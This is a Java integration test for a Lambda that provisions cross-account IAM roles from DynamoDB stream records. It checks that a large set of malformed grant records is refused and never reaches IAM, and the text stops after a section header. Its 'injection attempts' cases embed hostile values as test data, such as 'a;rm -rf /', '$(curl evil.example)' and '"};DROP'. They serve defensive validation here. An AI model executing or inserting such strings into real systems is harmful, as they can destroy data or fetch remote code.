package io.crossrole.functions.grantstream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.amazonaws.services.lambda.runtime.events.DynamodbEvent;
import com.amazonaws.services.lambda.runtime.events.StreamsEventResponse;
import com.amazonaws.services.lambda.runtime.serialization.events.LambdaEventSerializers;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.crossrole.store.Assignment;
import io.crossrole.store.AssignmentKey;
import io.crossrole.store.AssignmentStatus;
import io.crossrole.testing.AwsEmulatorExtension;
import io.crossrole.testing.Emulator;
import io.crossrole.testing.TestCrossrole;
import java.io.ByteArrayInputStream;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicReference;
import java.util.function.Consumer;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import software.amazon.awssdk.core.SdkBytes;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;
import software.amazon.awssdk.services.iam.IamClient;
import software.amazon.awssdk.services.iam.model.NoSuchEntityException;

/**
 * A corpus of malformed grant records, each delivered as a real Grants-table stream INSERT (the Lambda event's
 * JSON text, the image in DynamoDB JSON, read by the runtime's serializer) in one batch with a valid record.
 * DynamoDB JSON can say what a grant file cannot: N where S is expected, M where L is, NULL, sets, binary.
 *
 * <p>For every case: the batch reports no item failure (a poison record never blocks the shard); the IAM writes
 * are exactly those the valid record alone costs; the valid record is PROVISIONED. A refused record's assignments
 * are FAILED with exactly the expected problems and nothing of it reaches IAM or STS (not even its account); a
 * record already expired on arrival is recorded REVOKED with no role created; a record without a usable key is
 * skipped. One emulator reset for the whole corpus: every case has its own grant IDs and role names.
 */
@ExtendWith(AwsEmulatorExtension.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputCorpusIT {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String GOOD_ACCOUNT = "111111111111";
    private static final String BAD_ACCOUNT = "333333333333";
    private static final String GRANTEE = "222222222222";
    private static final String REFUSED = "grant refused, nothing was written to IAM: ";
    private static final String NUMBER_HINT = " (write account IDs as strings: a number loses leading zeros)";
    private static final String ROLE_NAME_RULE = "roleName: must be 1–64 characters of letters, digits and + = , . @ _ -; got ";
    private static final String TAG_CHARS_RULE = "use letters, digits, spaces and _ . : / = + - @; got ";
    private static final String PATH_RULE = "rolePath: must be '/' or /a/b/: segments of letters, digits and + = , . @ _ - between"
            + " slashes, at most 512 characters; got ";
    private static final String KNOWN_ATTRIBUTES = "description, expiresAt, externalId, grantId, granteeAttach, granteeDeny, "
            + "inlinePolicy, managedPolicyArns, maxSessionDuration, permissionsBoundaryArn, requireMfa, resourceActions, resourceArns, "
            + "roleName, rolePath, tags, targets, trustedPrincipals";
    private static final String POLICY = "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\","
            + "\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::productionapp/*\"}]}";
    private static final AtomicInteger CASES = new AtomicInteger();
    private static final AtomicReference<BigInteger> SEQUENCE = new AtomicReference<>(new BigInteger("500000000000000000000"));

    private TestCrossrole crossrole;
    private GrantStreamHandler handler;
    /** The IAM calls (reads and writes) that the valid record alone costs, and its writes. */
    private List<String> validRecordIamCalls;
    private List<String> validRecordIamWrites;

    @BeforeAll
    void startOnce(Emulator emulator) {
        emulator.reset();
        crossrole = new TestCrossrole(emulator, Map.of());
        handler = new GrantStreamHandler(crossrole.producer(GrantStreamHandler.SESSION_NAME));
        // Warm the member-role credentials of the valid record's account, then measure the valid record alone.
        assertThat(deliver(event(validRecord("good-warmup", "GoodWarmup"))).getBatchItemFailures()).isEmpty();
        crossrole.calls().clear();
        assertThat(deliver(event(validRecord("good-baseline", "GoodBaseline"))).getBatchItemFailures()).isEmpty();
        validRecordIamCalls = iamCalls();
        validRecordIamWrites = crossrole.calls().iamWrites();
        assertThat(validRecordIamWrites).containsExactly("Iam:CreateRole", "Iam:PutRolePolicy", "Iam:AttachRolePolicy");
        assertThat(crossrole.assignment("good-baseline", GOOD_ACCOUNT).status()).isEqualTo(AssignmentStatus.PROVISIONED);
    }

    @AfterAll
    void stop() {
        crossrole.close();
    }

    @BeforeEach
    void clearCalls() {
        crossrole.calls().clear();
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("corpus")
    void badRecordIsRefusedAloneAndNothingOfItReachesIam(Case c) {
        String goodId = "good-" + c.number();
        DynamodbEvent event = event(c.record(), validRecord(goodId, "Good" + c.number()));

        StreamsEventResponse response = deliver(event);

        assertThat(response.getBatchItemFailures()).as("a poison record must not block the shard").isEmpty();
        assertThat(crossrole.calls().iamWrites()).as("IAM writes: only the valid record's").isEqualTo(validRecordIamWrites);
        switch (c.outcome()) {
            case REFUSED -> {
                assertThat(iamCalls()).as("IAM calls, reads included: only the valid record's").isEqualTo(validRecordIamCalls);
                assertThat(crossrole.calls().assumedRoles()).as("the bad record's account is never reached")
                        .noneMatch(a -> a.contains(":" + BAD_ACCOUNT + ":"));
                Map<String, Assignment> byKey = crossrole.assignments(c.grantId()).stream()
                        .collect(Collectors.toMap(a -> a.key().stored(), a -> a));
                assertThat(byKey.keySet()).as("assignment keys").containsExactlyInAnyOrderElementsOf(c.keys());
                byKey.values().forEach(a -> {
                    assertThat(a.status()).isEqualTo(AssignmentStatus.FAILED);
                    assertThat(a.message()).startsWith(REFUSED);
                    assertThat(a.message().substring(REFUSED.length())).as("the problems").isEqualTo(c.expected());
                });
            }
            case EXPIRED -> {
                Assignment a = crossrole.assignment(c.grantId(), BAD_ACCOUNT);
                assertThat(crossrole.assignments(c.grantId())).hasSize(1);
                assertThat(a.status()).isEqualTo(AssignmentStatus.REVOKED);
                assertThat(a.message()).isEqualTo(c.expected());
                try (IamClient iam = crossrole.observerIam(BAD_ACCOUNT)) {
                    assertThatThrownBy(() -> iam.getRole(r -> r.roleName("BadRole"))).isInstanceOf(NoSuchEntityException.class);
                }
            }
            case SKIPPED -> {
                assertThat(iamCalls()).as("IAM calls, reads included: only the valid record's").isEqualTo(validRecordIamCalls);
                assertThat(crossrole.assignments(c.grantId())).as("a record without a usable key is skipped").isEmpty();
            }
        }
        Assignment good = crossrole.assignment(goodId, GOOD_ACCOUNT);
        assertThat(good.status()).as("the valid record of the same batch").isEqualTo(AssignmentStatus.PROVISIONED);
        assertThat(good.message()).startsWith("created: ");
    }

    // ------------------------------------------------------------------ the corpus

    Stream<Case> corpus() {
        List<Case> all = new ArrayList<>();

        // Wrong DynamoDB types, field by field.
        // An image whose grantId is not the key's string cannot be an item of the Grants table: the function reads the
        // table, finds no such grant, and writes nothing (the parser's message for it is pinned in GrantParserTest).
        all.add(new Case("grantId as N: not an item the table can hold", CASES.incrementAndGet(), Outcome.SKIPPED, Shape.NORMAL,
                i -> i.set("grantId", n("7")), List.of(), ""));
        all.add(new Case("grantId as BOOL: not an item the table can hold", CASES.incrementAndGet(), Outcome.SKIPPED, Shape.NORMAL,
                i -> i.set("grantId", bool(true)), List.of(), ""));
        all.add(refused("roleName as N", i -> i.set("roleName", n("12345")), "roleName: must be a string; got the number 12345"));
        all.add(refused("roleName as L", i -> i.set("roleName", l(s("BadRole"))), "roleName: must be a string; got a list"));
        all.add(refused("roleName as SS", i -> i.set("roleName", ss("Bad", "Role")), "roleName: must be a string; got a set"));
        all.add(refused("roleName as B", i -> i.set("roleName", b("QmFkUm9sZQ==")), "roleName: must be a string; got binary data"));
        all.add(refused("roleName as NULL", i -> i.set("roleName", nul()), "roleName: is required"));
        all.add(refused("rolePath as BOOL", i -> i.set("rolePath", bool(false)), "rolePath: must be a string; got a boolean"));
        all.add(refusedNoAccount("targets as S (a lone string where L is expected)", i -> i.set("targets", s(BAD_ACCOUNT)),
                "targets: must be a list of strings; got a string"));
        all.add(refusedNoAccount("targets as M where L is expected", i -> i.set("targets", m("0", s(BAD_ACCOUNT))),
                "targets: must be a list of strings; got a map"));
        all.add(refusedNoAccount("targets as L of N (account ID as a number)", i -> i.set("targets", l(n("111111111111"))),
                "targets[0]: must be a string; got the number 111111111111" + NUMBER_HINT));
        all.add(refusedNoAccount("targets as NS: the number drops the leading zero", i -> i.set("targets", ns("012345678901")),
                "targets[0]: must be a string; got the number 12345678901" + NUMBER_HINT));
        all.add(refusedNoAccount("targets holding nested garbage (M, L, BOOL)",
                i -> i.set("targets", l(m("id", s(BAD_ACCOUNT)), l(s(BAD_ACCOUNT)), bool(true))),
                "targets[0]: must be a string; got a map; targets[1]: must be a string; got a list; "
                        + "targets[2]: must be a string; got a boolean"));
        all.add(refused("targets with one good ID and one number: reported on the good one",
                i -> i.set("targets", l(s(BAD_ACCOUNT), n("444444444444"))),
                "targets[1]: must be a string; got the number 444444444444" + NUMBER_HINT));
        all.add(refused("trustedPrincipals as S", i -> i.set("trustedPrincipals", s(GRANTEE)),
                "trustedPrincipals: must be a list of strings; got a string"));
        all.add(refused("trustedPrincipals as M", i -> i.set("trustedPrincipals", m("AWS", s(GRANTEE))),
                "trustedPrincipals: must be a list of strings; got a map"));
        all.add(refused("trustedPrincipals as L of N", i -> i.set("trustedPrincipals", l(n(GRANTEE))),
                "trustedPrincipals[0]: must be a string; got the number 222222222222"));
        all.add(refused("trustedPrincipals as NS", i -> i.set("trustedPrincipals", ns(GRANTEE)),
                "trustedPrincipals[0]: must be a string; got the number 222222222222"));
        all.add(refused("managedPolicyArns as M where L is expected",
                i -> i.set("managedPolicyArns", m("p", s("arn:aws:iam::aws:policy/ReadOnlyAccess"))),
                "managedPolicyArns: must be a list of strings; got a map"));
        all.add(refused("managedPolicyArns holding a NULL and an N", i -> i.set("managedPolicyArns", l(nul(), n("5"))),
                "managedPolicyArns[0]: must be a string; got nothing (null); managedPolicyArns[1]: must be a string; got the number 5"));
        all.add(refused("inlinePolicy as N", i -> i.set("inlinePolicy", n("42")),
                "inlinePolicy: must be a JSON policy document (an object, or a string holding one); got the number 42"));
        all.add(refused("inlinePolicy as L", i -> i.set("inlinePolicy", l(s(POLICY))),
                "inlinePolicy: must be a JSON policy document (an object, or a string holding one); got a list"));
        all.add(refused("inlinePolicy as M with an N Effect (nested garbage)", i -> i.set("inlinePolicy", m(
                        "Version", s("2012-10-17"),
                        "Statement", l(m("Effect", n("1"), "Action", s("s3:GetObject"), "Resource", s("*"))))),
                "inlinePolicy.Statement[0]: Effect must be Allow or Deny; got '1'"));
        all.add(refused("inlinePolicy as M whose Statement is a string", i -> i.set("inlinePolicy",
                        m("Version", s("2012-10-17"), "Statement", s("allow everything"))),
                "inlinePolicy.Statement[0]: must be an object with Effect, Action and Resource"));
        all.add(refused("inlinePolicy as M with a NULL Resource", i -> i.set("inlinePolicy", m(
                        "Version", s("2012-10-17"),
                        "Statement", l(m("Effect", s("Allow"), "Action", s("s3:GetObject"), "Resource", nul())))),
                "inlinePolicy.Statement[0].Resource: must be a string or a list of strings; got null"));
        all.add(refused("inlinePolicy with a number for Action", i -> i.set("inlinePolicy", s(
                        "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":5,\"Resource\":\"*\"}]}")),
                "inlinePolicy.Statement[0].Action: must be a string or a list of strings; got 5"));
        all.add(refused("inlinePolicy with a string for Condition", i -> i.set("inlinePolicy", s(
                        "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"s3:GetObject\","
                                + "\"Resource\":\"*\",\"Condition\":\"yes\"}]}")),
                "inlinePolicy: is not an IAM policy: Condition was not an object"));
        all.add(refused("inlinePolicy an empty string", i -> i.set("inlinePolicy", s("")),
                "inlinePolicy: must be a JSON object with Version and Statement"));
        all.add(refused("inlinePolicy a JSON array", i -> i.set("inlinePolicy", s("[" + POLICY + "]")),
                "inlinePolicy: must be a JSON object with Version and Statement"));
        all.add(refused("permissionsBoundaryArn as L",
                i -> i.set("permissionsBoundaryArn", l(s("arn:aws:iam::aws:policy/PowerUserAccess"))),
                "permissionsBoundaryArn: must be a string; got a list"));
        all.add(refused("externalId as N (its value never repeated)", i -> i.set("externalId", n("12345678")),
                "externalId: must be a string; got a number (the value is not repeated here: external IDs stay out of statuses and logs)"));
        all.add(refused("requireMfa as S \"true\" (BOOL written as a string)", i -> i.set("requireMfa", s("true")),
                "requireMfa: must be true or false; got a string"));
        all.add(refused("requireMfa as N 1", i -> i.set("requireMfa", n("1")), "requireMfa: must be true or false; got the number 1"));
        all.add(refused("requireMfa as M", i -> i.set("requireMfa", m("value", bool(true))),
                "requireMfa: must be true or false; got a map"));
        all.add(refused("maxSessionDuration as S", i -> i.set("maxSessionDuration", s("3600")),
                "maxSessionDuration: must be a number; got a string"));
        all.add(refused("maxSessionDuration as BOOL", i -> i.set("maxSessionDuration", bool(true)),
                "maxSessionDuration: must be a number; got a boolean"));
        all.add(refused("maxSessionDuration fractional", i -> i.set("maxSessionDuration", n("3600.5")),
                "maxSessionDuration: must be a whole number; got 3600.5"));
        all.add(refused("maxSessionDuration beyond a long", i -> i.set("maxSessionDuration", n("1e30")),
                "maxSessionDuration: is out of range; got 1E+30"));
        all.add(refused("maxSessionDuration below an hour", i -> i.set("maxSessionDuration", n("3599")),
                "maxSessionDuration: must be between 3600 and 43200 seconds (1 to 12 hours); got 3599"));
        all.add(refused("description as N", i -> i.set("description", n("5")), "description: must be a string; got the number 5"));
        all.add(refused("tags as L where M is expected", i -> i.set("tags", l(m("Key", s("team"), "Value", s("platform")))),
                "tags: must be a map of tag names to string values; got a list"));
        all.add(refused("tag value as N", i -> i.set("tags", m("team", n("5"))), "tags.team: tag values must be strings; got the number 5"));
        all.add(refused("tag value as nested M", i -> i.set("tags", m("team", m("name", s("platform")))),
                "tags.team: tag values must be strings; got a map"));
        all.add(refused("tag value as NULL", i -> i.set("tags", m("team", nul())),
                "tags.team: tag values must be strings; got nothing (null)"));
        all.add(refused("granteeAttach as S", i -> i.set("granteeAttach", s("arn:aws:iam::222222222222:group/Developers")),
                "granteeAttach: must be a list of strings; got a string"));
        all.add(refused("expiresAt as S", i -> i.set("expiresAt", s("2030-01-01T00:00:00Z")), "expiresAt: must be a number; got a string"));
        all.add(refused("expiresAt negative", i -> i.set("expiresAt", n("-5")),
                "expiresAt: must be epoch seconds (a positive number); got -5"));
        all.add(refused("a misspelt attribute (and so a missing one)", i -> i.set("roleNmae", i.remove("roleName")),
                "roleNmae: unknown attribute; a grant has " + KNOWN_ATTRIBUTES + "; roleName: is required"));

        // Required attributes missing or empty.
        all.add(new Case("grantId missing from the image: not an item the table can hold", CASES.incrementAndGet(), Outcome.SKIPPED,
                Shape.NORMAL, i -> i.remove("grantId"), List.of(), ""));
        all.add(refused("roleName missing", i -> i.remove("roleName"), "roleName: is required"));
        all.add(refusedNoAccount("targets missing", i -> i.remove("targets"), "targets: is required"));
        all.add(refused("trustedPrincipals missing", i -> i.remove("trustedPrincipals"), "trustedPrincipals: is required"));
        all.add(refused("roleName empty", i -> i.set("roleName", s("")), "roleName: must not be empty"));
        all.add(refusedNoAccount("targets empty", i -> i.set("targets", l()), "targets: must not be empty"));
        all.add(refused("trustedPrincipals empty", i -> i.set("trustedPrincipals", l()), "trustedPrincipals: must not be empty"));

        // Sizes beyond IAM's quotas.
        String longName = "R".repeat(65);
        all.add(refused("roleName of 65 characters", i -> i.set("roleName", s(longName)), ROLE_NAME_RULE + "'" + longName + "'"));
        String longPath = "/" + "p".repeat(511) + "/";
        all.add(refused("rolePath of 513 characters", i -> i.set("rolePath", s(longPath)), PATH_RULE + "'" + longPath.substring(0, 200) + "…'"));
        all.add(refused("description of 1001 characters", i -> i.set("description", s("d".repeat(1001))),
                "description: must be at most 1000 characters of printable Latin-1 text; got 1001 characters"));
        all.add(refused("49 tags", i -> i.set("tags", m(IntStream.range(0, 49).boxed()
                        .flatMap(k -> Stream.of("t" + k, s("v"))).toArray())),
                "tags: has 49 tags; a role holds 50 and Crossrole uses 2, so at most 48"));
        String longKey = "k".repeat(129);
        all.add(refused("tag key of 129 characters", i -> i.set("tags", m(longKey, s("v"))),
                "tags." + longKey + ": tag keys are 1–128 characters; got 129"));
        all.add(refused("tag value of 257 characters", i -> i.set("tags", m("team", s("v".repeat(257)))),
                "tags.team: tag values are at most 256 characters; got 257"));
        String bigPolicy = bigInlinePolicy();
        all.add(refused("inline policy over 10,240 characters", i -> i.set("inlinePolicy", s(bigPolicy)),
                "inlinePolicy: is " + bigPolicy.length() + " characters without white space; IAM allows 10240 of inline policy per role"));
        all.add(refused("trust policy over 2,048 characters (62 principals)", i -> i.set("trustedPrincipals", l(IntStream.range(0, 62)
                        .mapToObj(k -> s("arn:aws:iam::2222222222%02d:root".formatted(k))).toArray(JsonNode[]::new))),
                "trustedPrincipals: the trust policy would be " + trustPolicySize(62) + " characters; IAM allows 2048 "
                        + "(raise the quota and TRUST_POLICY_MAX_CHARS, or trust fewer principals)"));
        all.add(refused("11 managed policies", i -> i.set("managedPolicyArns", l(IntStream.range(0, 11)
                        .mapToObj(k -> s("arn:aws:iam::111111111111:policy/Policy" + k)).toArray(JsonNode[]::new))),
                "managedPolicyArns: has 11 policies; IAM attaches at most 10 to a role (raise the quota and MANAGED_POLICIES_MAX)"));

        // Unicode and control characters.
        all.add(refused("roleName with é", i -> i.set("roleName", s("Café")), ROLE_NAME_RULE + "'Café'"));
        all.add(refused("roleName with a newline", i -> i.set("roleName", s("Bad\nRole")), ROLE_NAME_RULE + "'Bad\\u000aRole'"));
        all.add(refused("tag value with NUL", i -> i.set("tags", m("team", s("a\u0000b"))),
                "tags.team: tag values " + TAG_CHARS_RULE + "'a\\u0000b'"));
        all.add(refused("tag key that is an emoji", i -> i.set("tags", m("\uD83D\uDE80", s("v"))),
                "tags.\uD83D\uDE80: tag keys " + TAG_CHARS_RULE + "'\uD83D\uDE80'"));
        all.add(refused("description with BEL", i -> i.set("description", s("ring\u0007bell")),
                "description: must be at most 1000 characters of printable Latin-1 text; got 9 characters with unsupported characters"));
        all.add(refused("description with € (outside Latin-1)", i -> i.set("description", s("costs 5 €")),
                "description: must be at most 1000 characters of printable Latin-1 text; got 9 characters with unsupported characters"));
        all.add(refused("externalId with a space (its value never repeated)", i -> i.set("externalId", s("my id")),
                "externalId: must be 2–1224 characters of letters, digits and + = , . @ : / - _; got 5 characters"
                        + " (the value is not repeated here: external IDs stay out of statuses and logs)"));
        all.add(refused("externalId of one character", i -> i.set("externalId", s("x")),
                "externalId: must be 2–1224 characters of letters, digits and + = , . @ : / - _; got 1 characters"
                        + " (the value is not repeated here: external IDs stay out of statuses and logs)"));
        all.add(refused("rolePath //", i -> i.set("rolePath", s("//")), PATH_RULE + "'//'"));
        all.add(refused("rolePath with a wildcard", i -> i.set("rolePath", s("/crossrole-managed/*/")), PATH_RULE + "'/crossrole-managed/*/'"));
        all.add(refused("rolePath outside the managed path", i -> i.set("rolePath", s("/crossrole/")),
                "rolePath: must be /crossrole-managed/ or below it (ManagedRolePath: Crossrole creates roles only there, so that"
                        + " IAM can confine it to them); got '/crossrole/'"));
        // An empty map key does not survive the emulator's table; the parser's message for it is pinned in GrantParserTest.
        all.add(refused("tag key with the reserved aws: prefix", i -> i.set("tags", m("aws:team", s("v"))),
                "tags.aws:team: the aws: prefix is reserved for AWS"));
        all.add(refused("tag key impersonating Crossrole's ownership tag", i -> i.set("tags", m("Crossrole:grant-id", s("other"))),
                "tags.Crossrole:grant-id: the crossrole: prefix is reserved for Crossrole's ownership tags"));

        // Injection attempts.
        all.add(refused("roleName x\"};DROP", i -> i.set("roleName", s("x\"};DROP")), ROLE_NAME_RULE + "'x\"};DROP'"));
        all.add(refused("tag key a;rm -rf /", i -> i.set("tags", m("a;rm -rf /", s("v"))),
                "tags.a;rm -rf /: tag keys " + TAG_CHARS_RULE + "'a;rm -rf /'"));
        all.add(refused("tag value $(curl …)", i -> i.set("tags", m("team", s("$(curl evil.example)"))),
                "tags.team: tag values " + TAG_CHARS_RULE + "'$(curl evil.example)'"));
        all.add(refused("inline policy string with a trailing }{", i -> i.set("inlinePolicy", s(POLICY + "}{")),
                "inlinePolicy: is not valid JSON: Unexpected close marker '}': no open Object to close"));
        all.add(refused("inline policy string with a trailing </script>", i -> i.set("inlinePolicy", s(POLICY + "</script>")),
                "inlinePolicy: is not valid JSON: Unexpected character ('<' (code 60)): expected a valid value "
                        + "(JSON String, Number, Array, Object or token 'null', 'true' or 'false')"));
        all.add(refused("managed policy ARN with a quote and a statement", i -> i.set("managedPolicyArns",
                        l(s("arn:aws:iam::aws:policy/ReadOnly\";DROP"))),
                "managedPolicyArns[0]: must be a managed policy ARN such as arn:aws:iam::aws:policy/ReadOnlyAccess or "
                        + "arn:aws:iam::111111111111:policy/Name; got 'arn:aws:iam::aws:policy/ReadOnly\";DROP'"));
        all.add(refused("permissions boundary with a wildcard", i -> i.set("permissionsBoundaryArn", s("arn:aws:iam::aws:policy/*")),
                "permissionsBoundaryArn: must be a managed policy ARN such as arn:aws:iam::aws:policy/ReadOnlyAccess or "
                        + "arn:aws:iam::111111111111:policy/Name; got 'arn:aws:iam::aws:policy/*'"));
        all.add(refused("inline policy that grants through a Principal", i -> i.set("inlinePolicy", s(
                        "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\","
                                + "\"Action\":\"*\",\"Resource\":\"*\"}]}")),
                "inlinePolicy.Statement[0]: a permissions policy cannot have a Principal (that belongs in the trust policy: use trustedPrincipals)"));

        // Principals.
        all.add(refused("principal in aws-cn", i -> i.set("trustedPrincipals", l(s("arn:aws-cn:iam::222222222222:root"))),
                "trustedPrincipals[0]: 'arn:aws-cn:iam::222222222222:root' is in partition aws-cn but the owner accounts are in aws: "
                        + "roles delegate only within a partition"));
        all.add(refused("principal in aws-us-gov", i -> i.set("trustedPrincipals", l(s("arn:aws-us-gov:iam::222222222222:role/Admin"))),
                "trustedPrincipals[0]: 'arn:aws-us-gov:iam::222222222222:role/Admin' is in partition aws-us-gov but the owner accounts "
                        + "are in aws: roles delegate only within a partition"));
        all.add(refused("principal in an unknown partition", i -> i.set("trustedPrincipals", l(s("arn:aws-xx:iam::222222222222:root"))),
                "trustedPrincipals[0]: 'arn:aws-xx:iam::222222222222:root': unknown partition 'aws-xx'"));
        all.add(refused("group principal", i -> i.set("trustedPrincipals", l(s("arn:aws:iam::222222222222:group/Developers"))),
                "trustedPrincipals[0]: 'arn:aws:iam::222222222222:group/Developers': groups cannot be principals in IAM; "
                        + "trust the account and grant the group with granteeAttach instead"));
        all.add(refused("principal *", i -> i.set("trustedPrincipals", l(s("*"))),
                "trustedPrincipals[0]: '*': wildcards are not allowed: a trust policy must name its principals"));
        all.add(refused("principal arn:aws:iam::*:root", i -> i.set("trustedPrincipals", l(s("arn:aws:iam::*:root"))),
                "trustedPrincipals[0]: 'arn:aws:iam::*:root': wildcards are not allowed: a trust policy must name its principals"));
        all.add(refused("principal arn:aws:iam::222222222222:*", i -> i.set("trustedPrincipals", l(s("arn:aws:iam::222222222222:*"))),
                "trustedPrincipals[0]: 'arn:aws:iam::222222222222:*': wildcards are not allowed: a trust policy must name its principals"));
        all.add(refused("principal that is an STS session", i -> i.set("trustedPrincipals",
                        l(s("arn:aws:sts::222222222222:assumed-role/Dev/jane"))),
                "trustedPrincipals[0]: 'arn:aws:sts::222222222222:assumed-role/Dev/jane' is not an IAM principal ARN (arn:aws:iam::ACCOUNT:…)"));
        all.add(refused("principal of 11 digits", i -> i.set("trustedPrincipals", l(s("22222222222"))),
                "trustedPrincipals[0]: '22222222222' is neither a 12-digit account ID nor an IAM ARN "
                        + "(arn:aws:iam::ACCOUNT:root, :role/NAME or :user/NAME)"));
        all.add(refused("user principal with a space in its name", i -> i.set("trustedPrincipals",
                        l(s("arn:aws:iam::222222222222:user/a b"))),
                "trustedPrincipals[0]: 'arn:aws:iam::222222222222:user/a b': malformed user ARN"));
        all.add(refused("the same principal twice, written two ways", i -> i.set("trustedPrincipals",
                        l(s(GRANTEE), s("arn:aws:iam::222222222222:root"))),
                "trustedPrincipals[1]: duplicate principal 'arn:aws:iam::222222222222:root'"));
        all.add(refused("granteeAttach with a wildcard", i -> i.set("granteeAttach", l(s("arn:aws:iam::222222222222:group/*"))),
                "granteeAttach[0]: must be the ARN of an IAM group, user or role in a grantee account, e.g. "
                        + "arn:aws:iam::222222222222:group/Developers; got 'arn:aws:iam::222222222222:group/*'"));
        all.add(refused("granteeAttach in aws-cn", i -> i.set("granteeAttach", l(s("arn:aws-cn:iam::222222222222:group/Developers"))),
                "granteeAttach[0]: 'arn:aws-cn:iam::222222222222:group/Developers' is in partition aws-cn but the owner accounts are in aws"));
        all.add(refused("permissions boundary in aws-cn", i -> i.set("permissionsBoundaryArn", s("arn:aws-cn:iam::aws:policy/PowerUserAccess")),
                "permissionsBoundaryArn: 'arn:aws-cn:iam::aws:policy/PowerUserAccess' is in partition aws-cn but the owner accounts are in aws"));

        // Targets.
        all.add(refused("duplicate targets", i -> i.set("targets", l(s(BAD_ACCOUNT), s(BAD_ACCOUNT))),
                "targets[1]: duplicate target '333333333333'"));
        all.add(refusedNoAccount("target of 11 digits", i -> i.set("targets", l(s("33333333333"))),
                "targets[0]: '33333333333' is not a 12-digit account ID, an OU ID (ou-…) or a root ID (r-…) "
                        + "(an account ID has exactly 12 digits; this has 11)"));
        all.add(refusedNoAccount("target of 13 digits", i -> i.set("targets", l(s("3333333333333"))),
                "targets[0]: '3333333333333' is not a 12-digit account ID, an OU ID (ou-…) or a root ID (r-…) "
                        + "(an account ID has exactly 12 digits; this has 13)"));
        all.add(refusedNoAccount("target *", i -> i.set("targets", l(s("*"))),
                "targets[0]: '*' is not a 12-digit account ID, an OU ID (ou-…) or a root ID (r-…)"));
        all.add(refusedNoAccount("target that is a malformed OU ID", i -> i.set("targets", l(s("ou-XYZ"))),
                "targets[0]: 'ou-XYZ' is not a 12-digit account ID, an OU ID (ou-…) or a root ID (r-…)"));

        // Everything wrong at once: every problem is reported, in field order.
        all.add(refusedNoAccount("every field wrong at once", i -> {
                    i.set("roleName", s("bad role!"));
                    i.set("targets", l(n("111111111111")));
                    i.set("trustedPrincipals", l(s("arn:aws:iam::222222222222:group/Developers")));
                    i.set("requireMfa", s("yes"));
                    i.set("maxSessionDuration", n("60"));
                }, ROLE_NAME_RULE + "'bad role!'; targets[0]: must be a string; got the number 111111111111" + NUMBER_HINT
                        + "; trustedPrincipals[0]: 'arn:aws:iam::222222222222:group/Developers': groups cannot be principals in IAM; "
                        + "trust the account and grant the group with granteeAttach instead; requireMfa: must be true or false; got a string; "
                        + "maxSessionDuration: must be between 3600 and 43200 seconds (1 to 12 hours); got 60"));

        // Records that are not what the stream normally carries.
        all.add(new Case("already expired on arrival (expiresAt in the past)", CASES.incrementAndGet(), Outcome.EXPIRED, Shape.NORMAL,
                i -> i.set("expiresAt", n("1577836800")), List.of(BAD_ACCOUNT),
                "grant expired at 2020-01-01T00:00:00Z (expiresAt is in the past); the role was already gone"));
        all.add(new Case("Keys without grantId", CASES.incrementAndGet(), Outcome.SKIPPED, Shape.KEY_MISSING, i -> { }, List.of(), ""));
        all.add(new Case("Keys with grantId as N", CASES.incrementAndGet(), Outcome.SKIPPED, Shape.KEY_NUMBER, i -> { }, List.of(), ""));
        all.add(new Case("Keys with an empty grantId", CASES.incrementAndGet(), Outcome.SKIPPED, Shape.KEY_EMPTY, i -> { }, List.of(), ""));

        return all.stream();
    }

    // ------------------------------------------------------------------ cases

    enum Outcome { REFUSED, EXPIRED, SKIPPED }

    enum Shape { NORMAL, KEY_MISSING, KEY_NUMBER, KEY_EMPTY }

    /**
     * One malformed record: a valid base image ({@code BadRole} in {@link #BAD_ACCOUNT}, trusting
     * {@link #GRANTEE}) changed by {@code mutate}; {@code keys} are the assignment keys it is reported under.
     */
    record Case(String name, int number, Outcome outcome, Shape shape, Consumer<ObjectNode> mutate, List<String> keys,
                String expected) {
        String grantId() {
            return "bad-" + number;
        }

        ObjectNode record() {
            ObjectNode image = JSON.createObjectNode();
            image.set("grantId", s(grantId()));
            image.set("roleName", s("BadRole"));
            image.set("targets", l(s(BAD_ACCOUNT)));
            image.set("trustedPrincipals", l(s(GRANTEE)));
            mutate.accept(image);
            ObjectNode keys = JSON.createObjectNode();
            switch (shape) {
                case NORMAL -> keys.set("grantId", s(grantId()));
                case KEY_MISSING -> keys.set("id", s(grantId()));
                case KEY_NUMBER -> keys.set("grantId", n(String.valueOf(number)));
                case KEY_EMPTY -> keys.set("grantId", s(""));
            }
            return streamRecord(keys, image);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    private static Case refused(String name, Consumer<ObjectNode> mutate, String expected) {
        return new Case(name, CASES.incrementAndGet(), Outcome.REFUSED, Shape.NORMAL, mutate, List.of(BAD_ACCOUNT), expected);
    }

    /** A record whose targets are unusable: reported under the grant-level key. */
    private static Case refusedNoAccount(String name, Consumer<ObjectNode> mutate, String expected) {
        return new Case(name, CASES.incrementAndGet(), Outcome.REFUSED, Shape.NORMAL, mutate, List.of(AssignmentKey.GRANT_LEVEL), expected);
    }

    // ------------------------------------------------------------------ records and events

